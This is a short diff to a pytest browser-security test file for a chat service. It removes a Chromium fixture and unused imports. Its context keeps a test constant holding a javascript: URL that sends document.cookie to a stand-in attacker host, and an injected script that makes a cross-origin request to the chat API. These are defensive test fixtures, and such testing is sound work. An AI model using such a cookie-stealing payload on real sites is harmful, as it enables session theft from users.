@@ -17,7 +17,7 @@ from urllib.parse import urlencode
 
 import pytest
 
-from tests.browser import StaticServer, launch_chromium, open_page, require_browser
+from tests.browser import StaticServer, open_page
 from tests.fakes.control import FakeAnthropic
 from tests.harness import ServerProcess
 from tests.sse import CHAT
@@ -34,13 +34,6 @@ fetch("{api}{chat}?query=fetch+What+is+a+KITAS", {{mode: "no-cors"}})
 </script>
 """
 EVIL = "javascript:fetch('https://evil.example/?c='+document.cookie)"
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    require_browser()
-    with launch_chromium() as browser:
-        yield browser
 
 
 @pytest.fixture
